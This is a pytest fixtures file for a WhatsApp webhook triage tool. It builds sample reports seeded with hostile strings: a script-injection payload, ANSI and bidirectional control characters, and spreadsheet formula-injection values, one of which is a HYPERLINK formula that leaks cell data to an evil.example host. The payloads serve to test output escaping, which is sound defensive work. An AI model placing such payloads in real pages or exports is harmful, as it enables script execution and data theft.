"""Triages to write: one with everything that can be in it and nasty texts in all of it, and how to write one."""

from __future__ import annotations

import io
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from itertools import islice

import pytest

from wa_doctor.model import Fix, Severity, notice, warning
from wa_doctor.redact import plain
from wa_doctor.render import Look, render
from wa_doctor.webhooks.document import (
    AccountEvent,
    Cause,
    CheckItem,
    Checklist,
    FieldCount,
    Gap,
    Input,
    Triage,
    Unreadable,
    WebhookHealth,
)
from wa_doctor.webhooks.message import Moment, Reason, Subject, Verdict
from wa_doctor.webhooks.totals import (
    Concentration,
    ErrorTotal,
    GroupTotal,
    Hour,
    Incident,
    IncidentKind,
    Latency,
    LatencyBucket,
    MessageTotals,
    SilentRecipient,
)

Write = Callable[..., str]

HOUR = 3600
BEGIN = 1_794_960_000  # 2026-11-18 00:00 UTC
NASTY = plain(
    "a 100% \x1b[31mred\x1b[0m <b>answer</b>: \u202eright to left\u202c, a|pipe, `ticks`, @octocat and #7,\n"
    '"quotes" </script><script>alert(1)</script> <!-- https://evil.example/?q=1&r=<x> :rocket: _end_ 株式会社\u2028'
)
FORMULAS = ('=HYPERLINK("https://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", " =1+1", "\uff1d1+1")


@dataclass(frozen=True, slots=True)
class Listed:
    """Messages that are held in a list, sorted from worst to best."""

    messages: Sequence[Subject]

    def __len__(self) -> int:
        return len(self.messages)

    def worst(self, limit: int | None) -> Iterator[Subject]:
        """Yield the first of them."""
        return islice(self.messages, limit)

    def in_time(self) -> Iterator[Subject]:
        """Yield all, those without a time first."""
        return iter(sorted(self.messages, key=lambda each: each.first or 0))


PAUSE = Fix(
    "Wait 24 hours before the next marketing message to the same person, and send fewer of them.",
    url="https://developers.facebook.example/docs/whatsapp/cloud-api/guides/send-message-templates#per-user-limits",
)
ASK = Fix("Ask the recipient over another channel to write to the number first.", "wa-doctor triage --undelivered FILE")
SLOWER = Fix("Send at most one message every 6 seconds to the same number: `MAX_RATE=10 ./send.sh | tee log`.")

HOURS = (
    Hour(BEGIN + 8 * HOUR, 1200, 1180, 12, 8, 0, 12, {131049: 9, 131026: 3}),
    Hour(BEGIN + 9 * HOUR, 2400, 2210, 150, 40, 0, 148, {131049: 140, 131026: 8}),
    Hour(BEGIN + 10 * HOUR, 2310, 1400, 880, 30, 0, 870, {131049: 520, 131056: 346, 131026: 4}),
    Hour(BEGIN + 11 * HOUR, 2290, 2180, 70, 40, 0, 82, {131049: 80, 131026: 1, 190000: 1}),
    Hour(BEGIN + 13 * HOUR, 800, 770, 20, 10, 0, 0, {}),
    Hour(BEGIN + 30 * HOUR, 1000, 700, 200, 60, 40, 220, {131049: 212, 131026: 8}),
)

SUBJECTS = (
    Subject(
        "wamid.SAMPLEAAA001",
        Verdict.FAILED,
        f"Meta chose not to deliver it: {NASTY}",
        (
            Moment(None, "accepted"),
            Moment(BEGIN + 10 * HOUR + 6, "sent", repeated=2),
            Moment(BEGIN + 10 * HOUR + 67, "failed", 131049, note=NASTY),
        ),
        recipient="+49 151 *****78",
        region="DE",
        number="+1 555-01** (shop)",
        template=f"spring_sale {NASTY}",
        category="marketing",
        codes=((131049, None),),
        titles=("Message not delivered to keep the ecosystem healthy",),
        fix=PAUSE,
        repeats=2,
    ),
    Subject(
        "wamid.SAMPLEAAA002",
        Verdict.FAILED,
        "two errors came with it",
        (Moment(BEGIN + 10 * HOUR + 9, "failed", 131056, 2494), Moment(BEGIN + 10 * HOUR + 9, "failed", 131026)),
        recipient=FORMULAS[1],
        codes=((131056, 2494), (131026, None)),
        titles=("Pair rate limit", FORMULAS[0]),
        template=FORMULAS[2],
        number=FORMULAS[3],
        category=FORMULAS[4],
        fix=SLOWER,
    ),
    Subject(
        FORMULAS[0],
        Verdict.UNDELIVERED,
        "sent 21 h 59 min before the log ends, and nothing after it",
        (Moment(BEGIN + 9 * HOUR, "sent"),),
        recipient="+98 912 *****21",
        region="IR",
        number="+1 555-01** (shop)",
        template="order_update",
        category="utility",
        fix=ASK,
        reasons=(
            Reason("Meta does not serve the region", "likely", f"the number is one of Iran; {NASTY}"),
            Reason("the phone is off", "possible", "Meta keeps the message for 30 days"),
            Reason("the business is blocked", "unlikely", "the recipient read a message an hour before"),
        ),
        waiting=79_140,
    ),
    Subject(
        "wamid.SAMPLEAAA004",
        Verdict.ACCEPTED,
        "the API took it, and no webhook came",
        (Moment(None, "accepted"),),
        in_flight=True,
        waiting=30,
    ),
    Subject(
        "wamid.SAMPLEAAA005",
        Verdict.DELIVERED,
        "one device has it, another refused it",
        (
            Moment(BEGIN + 8 * HOUR, "sent"),
            Moment(BEGIN + 8 * HOUR + 2, "failed", 131026),
            Moment(BEGIN + 8 * HOUR + 3, "delivered"),
            Moment(BEGIN + 8 * HOUR + 90, "read"),
        ),
        recipient="+44 7700 ****12",
        region="GB",
        codes=((131026, None),),
        titles=("Message undeliverable",),
        read=True,
        conflicting=True,
        latency=3,
    ),
    Subject(
        "wamid.SAMPLEAAA006",
        Verdict.DELIVERED,
        "delivered",
        (Moment(BEGIN + 8 * HOUR + 1, "sent"), Moment(BEGIN + 8 * HOUR + 2, "delivered")),
        latency=1,
    ),
)

TRIAGE = Triage(
    version="1.2.3",
    started=datetime(2026, 11, 22, 9, 41, 7, tzinfo=UTC),
    duration_ms=2345,
    as_of=BEGIN + 31 * HOUR,
    input=Input(
        sources=("logs/hooks.ndjson.gz", "-"),
        files=2,
        lines=41_233,
        bytes=23_456_789,
        webhooks=41_002,
        answers=1_204,
        events=38_911,
        incoming=311,
        other=225,
        unreadable=14,
        unreadable_list=(
            Unreadable("logs/hooks.ndjson.gz", 812, f"no JSON: {NASTY}"),
            Unreadable("logs/hooks.ndjson.gz", 0, "the gzip stream ends too early"),
        ),
        list_wanted=False,
        fields=(FieldCount("messages", 40_995, True), FieldCount("brand_new_field", 7, False)),
        first=BEGIN + 8 * HOUR,
        last=BEGIN + 31 * HOUR - 30,
    ),
    messages=MessageTotals(10_000, 8_440, 6_100, 1_332, 188, 40, 3, 25, 311),
    first_step=PAUSE,
    causes=(
        Cause(
            1,
            Severity.ERROR,
            "Message not delivered to keep the ecosystem healthy",
            "Meta limits how many marketing messages one person gets from all businesses together.",
            961,
            961 / 1560,
            131049,
            (PAUSE, Fix("Send service messages inside the window of 24 hours instead.")),
        ),
        Cause(
            2,
            Severity.ERROR,
            "Pair rate limit",
            f"Too many messages to one recipient in a short time. {NASTY}",
            346,
            346 / 1560,
            131056,
            (SLOWER,),
        ),
        Cause(
            3,
            Severity.WARNING,
            "Sent, and nothing after it",
            "Meta does not say why; most of the recipients are in a region that is not served.",
            188,
            188 / 1560,
            None,
            (ASK,),
        ),
    ),
    errors=(
        ErrorTotal(
            131049,
            None,
            "Message not delivered to keep the ecosystem healthy",
            True,
            961,
            0,
            0,
            961 / 1332,
            BEGIN + 8 * HOUR + 12,
            BEGIN + 30 * HOUR + 3000,
            "Meta limits how many marketing messages one person gets from all businesses together.",
            PAUSE,
            (PAUSE, Fix("Send service messages inside the window of 24 hours instead.")),
            "not before 24 h have passed",
            ("developer", "meta"),
            "https://developers.facebook.example/docs/whatsapp/cloud-api/support/error-codes",
            ("This message was not delivered to maintain healthy ecosystem engagement.", NASTY),
            (
                Concentration("template", f"spring_sale {NASTY}", 950, 950 / 961, 0.31),
                Concentration("region", "Germany", 500, 500 / 961, 0.12),
            ),
        ),
        ErrorTotal(
            131056,
            2494,
            "Pair rate limit",
            True,
            346,
            0,
            0,
            346 / 1332,
            BEGIN + 10 * HOUR,
            BEGIN + 10 * HOUR + 540,
            "Too many messages from one number to one recipient in a short time.",
            SLOWER,
            (SLOWER,),
            "at once, with growing pauses",
            ("developer",),
            "",
            (),
            (),
        ),
        ErrorTotal(
            131026,
            None,
            "Message undeliverable",
            True,
            24,
            3,
            1,
            24 / 1332,
            BEGIN + 8 * HOUR + 2,
            BEGIN + 30 * HOUR + 100,
            "",
            None,
            (),
            "",
            (),
            "",
            (),
            (),
        ),
        ErrorTotal(
            190000,
            None,
            NASTY,
            False,
            1,
            0,
            0,
            1 / 1332,
            BEGIN + 11 * HOUR,
            BEGIN + 11 * HOUR,
            "",
            None,
            (),
            "",
            (),
            "",
            (),
            (),
        ),
    ),
    regions=(
        GroupTotal("DE", "Germany", 6_000, 5_100, 800, 80, 20),
        GroupTotal("IR", "Iran", 120, 0, 2, 118, 0, "Meta does not serve Iran"),
    ),
    numbers=(GroupTotal("106540352242922", "+1 555-01** (shop)", 10_000, 8_440, 1_332, 188, 40),),
    templates=(
        GroupTotal("spring_sale", f"spring_sale {NASTY}", 3_100, 1_900, 1_140, 50, 10),
        GroupTotal("order_update", "order_update", 6_900, 6_540, 192, 138, 30),
        *(GroupTotal(f"t{number}", f"t{number}", 10, 10, 0, 0, 0) for number in range(5)),
    ),
    categories=(GroupTotal("marketing", "marketing", 3_100, 1_900, 1_140, 50, 10),),
    hours=HOURS,
    latency=Latency(
        8_440,
        2,
        14,
        190,
        7_265,
        (
            LatencyBucket(1, "1 s", 3_000),
            LatencyBucket(2, "2 s", 2_500),
            LatencyBucket(5, "5 s", 1_500),
            LatencyBucket(60, "1 min", 1_300),
            LatencyBucket(3600, "1 h", 138),
            LatencyBucket(None, "longer", 2),
        ),
    ),
    incidents=(
        Incident(
            IncidentKind.RATE_LIMIT,
            131056,
            "Pair rate limit",
            BEGIN + 10 * HOUR,
            BEGIN + 10 * HOUR + 540,
            True,
            346,
            "",
            "346 messages failed with 131056: too much at once",
            SLOWER,
        ),
        Incident(
            IncidentKind.TEMPLATE,
            131049,
            "Message not delivered",
            BEGIN + 30 * HOUR,
            BEGIN + 30 * HOUR + 3000,
            False,
            212,
            "spring_sale",
            f"the template spring_sale worked and began to fail {NASTY}",
            None,
        ),
    ),
    silent=(
        SilentRecipient(
            "+98 912 *****21", "IR", 7, 0, 7, BEGIN + 8 * HOUR, BEGIN + 30 * HOUR, (), f"not served; {NASTY}", ASK
        ),
    ),
    account=(
        AccountEvent(
            None, "account_update", "VERIFIED_ACCOUNT", "the account", Severity.NOTICE, "it was verified", None
        ),
        AccountEvent(
            BEGIN + 10 * HOUR + 1800,
            "message_template_status_update",
            "PAUSED",
            f"spring_sale {NASTY}",
            Severity.ERROR,
            "the template was paused for its quality",
            Fix("Edit the template and submit it again.", url="https://business.facebook.example/wa/manage/a|b?<c>"),
            12,
            1_140,
        ),
    ),
    webhooks=WebhookHealth(
        timed=39_000,
        late=211,
        median_delay=1,
        longest_delay=5_000,
        duplicates=48,
        retries=40,
        unannounced=5,
        out_of_order=61,
        gaps=(Gap(BEGIN + 14 * HOUR, BEGIN + 30 * HOUR),),
        findings=(
            warning("211 webhooks came late", fix="Answer 200 first and work afterwards.", command="wa-doctor webhook"),
            notice("61 events stood in the log before one that happened earlier"),
        ),
    ),
    checklist=Checklist(
        f"the 188 messages that stay at sent {NASTY}",
        "Meta does not say why they stay there, so somebody has to ask.",
        (
            CheckItem(True, "Can you write to our number?", ("a message from you opens the window",)),
            CheckItem(
                True,
                "Is your app new enough?",
                ("Android 2.21.15.15", "iOS 2.21.170.4", NASTY),
                "https://www.whatsapp.example/download",
            ),
            CheckItem(False, "Does the template have a time to live?", (), ""),
        ),
    ),
    subjects=Listed(SUBJECTS),
    limit=None,
    message="",
    masked=True,
    pseudonyms=False,
    spilled=False,
    exit_code=1,
    facts={"errors": "2026-06-24", "regions": "2026-08-01"},
    overrides=("errors/131049.toml",),
    notes=(f"the log ends in the middle of a line {NASTY}",),
)

EMPTY = replace(
    TRIAGE,
    as_of=None,
    input=replace(
        TRIAGE.input, webhooks=0, answers=0, events=0, incoming=0, fields=(), first=None, last=None, files=1, bytes=0
    ),
    messages=MessageTotals(0, 0, 0, 0, 0, 0, 0, 0, 0),
    first_step=Fix("Give the log of the endpoint that Meta sends webhooks to."),
    causes=(),
    errors=(),
    regions=(),
    numbers=(),
    templates=(),
    categories=(),
    hours=(),
    latency=None,
    incidents=(),
    silent=(),
    account=(),
    webhooks=WebhookHealth(0, 0, None, None, 0, None, 0, 0, (), ()),
    checklist=None,
    subjects=Listed(()),
    exit_code=3,
    overrides=(),
    notes=(),
)

ONE = replace(TRIAGE, message=SUBJECTS[2].id, subjects=Listed(SUBJECTS[2:3]), notes=(), overrides=())

HEALTHY = replace(
    EMPTY,
    input=replace(EMPTY.input, webhooks=2, first=BEGIN, last=BEGIN + 1, unreadable=0, unreadable_list=()),
    messages=MessageTotals(1, 1, 0, 0, 0, 0, 0, 0, 0),
    hours=(Hour(BEGIN, 1, 1, 0, 0, 0, 0, {}),),
    first_step=None,
    subjects=Listed(SUBJECTS[5:]),
    exit_code=0,
)

TRIAGES = {"triage": TRIAGE, "empty": EMPTY, "one": ONE, "healthy": HEALTHY}


@pytest.fixture
def triage() -> Triage:
    """Return a triage with everything in it."""
    return TRIAGE


@pytest.fixture(params=TRIAGES)
def any_triage(request: pytest.FixtureRequest) -> Triage:
    """Return one triage after the other: everything, nothing, one message, no trouble."""
    return TRIAGES[request.param]


@pytest.fixture
def triages() -> dict[str, Triage]:
    """Return all the triages by name."""
    return TRIAGES


@pytest.fixture
def listed() -> type[Listed]:
    """Return what makes messages of a list."""
    return Listed


@pytest.fixture
def write() -> Write:
    """Return a function that gives what a format writes to a stream of an encoding."""

    def written(format: str, document: Triage = TRIAGE, look: Look = Look(), encoding: str = "utf-8") -> str:  # noqa: B008
        raw = io.BytesIO()
        out = io.TextIOWrapper(raw, encoding=encoding, newline="\n")
        render("triage", format, document, out, look)
        out.flush()
        return raw.getvalue().decode(encoding)

    return written
